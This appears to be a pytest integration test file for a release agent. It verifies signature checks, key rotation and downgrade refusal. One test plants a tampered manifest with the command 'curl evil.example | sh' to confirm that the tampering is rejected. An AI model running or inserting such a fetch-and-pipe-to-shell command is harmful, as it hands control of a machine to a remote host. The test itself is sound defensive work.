"""A host installs what a key that it was given has signed, and nothing older than it ran."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from apps.agent.digests import sha256
from lifecycle.domain.fleet.host import AgentStage, Feature, HostReport
from lifecycle.domain.fleet.host_command import Order
from lifecycle.domain.service.attestation import attestation_of, statement
from lifecycle.domain.service.envelope import ENVELOPE, Envelope, signed_bytes
from lifecycle.domain.service.manifest import Manifest
from lifecycle.domain.service.published import Published
from lifecycle.domain.service.trusted_keys import keys_text
from lifecycle.gateways.serialization import to_json
from tests.fakes.signer import MemorySigner
from tests.integration.agent.host import Host

OURS, NEXT, FOREIGN = MemorySigner(), MemorySigner(key="key/release-2"), MemorySigner(key="key/foreign")


@pytest.fixture
def keys(tmp_path: Path) -> Path:
    file = tmp_path / "trusted-keys"
    file.write_text(keys_text([OURS.trusted]))
    return file


@pytest.fixture
def host(tmp_path: Path, keys: Path) -> Iterator[Host]:
    """Yield a host that was given a key, with a running agent."""
    made = Host(tmp_path / "home")
    made.settings = replace(made.settings, trusted_keys=keys)
    made.start()
    yield made
    made.close()


def envelope(manifest: Manifest, by: MemorySigner = OURS) -> str:
    payload = statement(attestation_of(manifest, Published(manifest.digest, sha256(to_json(manifest)))))
    return Envelope(payload, (by.sign(signed_bytes(payload)),)).text


def publish(host: Host, version: str, by: MemorySigner | None = OURS) -> Manifest:
    made = host.publish(version)
    if by:
        host.releases.envelopes["hello", version] = envelope(made, by)
    return made


def refused(report: HostReport) -> str:
    """Return why a version was refused. Nothing of it is on the disk then."""
    assert (report.stage, report.failed_stage) == (AgentStage.FAILED, AgentStage.FETCHING)
    return report.detail


def test_signed_release_is_installed_and_its_manifest_is_reported(host: Host) -> None:
    made = publish(host, "1.0.0")
    report = host.install("1.0.0")
    assert (report.stage, report.manifest, report.newest) == (AgentStage.DONE, sha256(to_json(made)), ("1.0.0",))
    assert Feature.SIGNATURES in report.features
    assert (host.settings.home / "artifacts" / "1.0.0" / ENVELOPE).read_text() == envelope(made)


@pytest.mark.parametrize("order", [Order.PREFETCH, Order.INSTALL, Order.RELEASE])
def test_unsigned_release_is_refused_before_it_is_fetched(host: Host, order: Order) -> None:
    publish(host, "1.0.0", None)
    report = host.outcome(host.turn(order, "1.0.0"))
    assert refused(report).startswith(
        "the signature of hello 1.0.0 is not accepted: expected a signature by key/release-1, found none; "
        "promote its snapshot again"
    )
    assert report.releases == ()


def test_release_that_a_foreign_key_signed_is_refused(host: Host) -> None:
    publish(host, "1.0.0", FOREIGN)
    assert "found one by key/foreign; find out who signed it" in refused(host.install("1.0.0"))


def test_signature_of_an_older_release_does_not_serve_for_a_newer_one(host: Host) -> None:
    older = publish(host, "1.0.0")
    publish(host, "1.0.1", None)
    host.releases.envelopes["hello", "1.0.1"] = envelope(older)
    assert "over version 1.0.1, artifact" in refused(host.install("1.0.1"))
    assert host.install("1.0.0").stage is AgentStage.DONE


def test_replaced_manifest_is_refused_although_ledger_and_store_agree(host: Host) -> None:
    """A writer of both the ledger and the bucket has no key."""
    own = publish(host, "1.0.0")
    evil = replace(own, run=replace(own.run, command="curl evil.example | sh"))
    host.releases.publish(evil, host.releases.published["hello", "1.0.0"][1])
    assert "found one over manifest" in refused(host.install("1.0.0"))


def test_release_on_the_disk_is_checked_again_without_the_store(host: Host) -> None:
    publish(host, "1.0.0")
    publish(host, "1.0.1")
    for version in ("1.0.0", "1.0.1"):
        assert host.install(version).stage is AgentStage.DONE
    host.releases.envelopes.clear()
    host.releases.requested.clear()
    assert host.install("1.0.0", goes_back=True).stage is AgentStage.DONE
    assert host.releases.requested == []


def test_former_key_is_trusted_until_it_is_removed_and_no_restart_is_needed(host: Host, keys: Path) -> None:
    publish(host, "1.0.0")
    assert host.install("1.0.0").stage is AgentStage.DONE
    keys.write_text(keys_text([NEXT.trusted, OURS.trusted]))
    publish(host, "1.0.1", NEXT)
    assert host.install("1.0.1").stage is AgentStage.DONE
    assert host.install("1.0.0", goes_back=True).stage is AgentStage.DONE
    keys.write_text(keys_text([NEXT.trusted]))
    found = refused_on_the_disk(host.install("1.0.0", goes_back=True))
    assert "expected a signature by key/release-2, found one by key/release-1" in found
    assert "docs/operating.md#rotate-a-signing-key" in found


def refused_on_the_disk(report: HostReport) -> str:
    assert report.stage is AgentStage.FAILED
    return report.detail


def test_release_of_an_agent_of_before_gets_its_signature_from_the_store(host: Host) -> None:
    made = publish(host, "1.0.0")
    host.outcome(host.turn(Order.PREFETCH, "1.0.0"))
    (host.settings.home / "artifacts" / "1.0.0" / ENVELOPE).unlink()
    assert host.install("1.0.0").stage is AgentStage.DONE
    assert (host.settings.home / "artifacts" / "1.0.0" / ENVELOPE).read_text() == envelope(made)


@pytest.mark.parametrize("content", ["", "rubbish", None])
def test_without_a_readable_key_nothing_is_installed(host: Host, keys: Path, content: str | None) -> None:
    publish(host, "1.0.0")
    keys.unlink() if content is None else keys.write_text(content)
    found = refused_on_the_disk(host.install("1.0.0"))
    assert "a key of which none is known" in found or "install this host's agent again" in found


def test_older_release_than_the_host_ran_is_refused_unless_the_command_goes_back(host: Host) -> None:
    for version in ("1.0.0", "1.0.1"):
        publish(host, version)
        assert host.install(version, goes_back=False).stage is AgentStage.DONE
    report = host.install("1.0.0", goes_back=False)
    assert refused_on_the_disk(report) == (
        "the version 1.0.0 is refused: this host ran 1.0.1: expected that or a newer version, found 1.0.0, and the "
        "command does not say that it goes back; plan it again: lifecycle rollback, or lifecycle deploy"
    )
    assert (report.installed, report.running) == ("1.0.1", True)
    assert host.install("1.0.0", goes_back=True).stage is AgentStage.DONE
    assert host.install("1.0.1", goes_back=False).newest == ("1.0.1",)


def test_memory_of_the_newest_release_outlives_the_agent(host: Host) -> None:
    for version in ("1.0.0", "1.0.1"):
        publish(host, version)
        host.install(version)
    host.stop()
    host.start()
    assert "expected that or a newer" in refused_on_the_disk(host.install("1.0.0", goes_back=False))


def test_control_plane_of_before_does_not_say_whether_it_goes_back(host: Host) -> None:
    for version in ("1.0.0", "1.0.1"):
        publish(host, version)
        host.install(version)
    assert host.install("1.0.0").stage is AgentStage.DONE


def test_memory_that_cannot_be_read_counts_as_empty(host: Host) -> None:
    host.stop()
    (host.settings.home / "newest.json").write_text('{"release": 7}')
    host.start()
    publish(host, "1.0.0")
    assert host.install("1.0.0", goes_back=False).newest == ("1.0.0",)


def test_host_without_keys_installs_what_it_gets_and_does_not_claim_to_check(tmp_path: Path) -> None:
    made = Host(tmp_path / "home")
    made.start()
    try:
        publish(made, "1.0.0", None)
        report = made.install("1.0.0")
    finally:
        made.close()
    assert report.stage is AgentStage.DONE
    assert Feature.SIGNATURES not in report.features
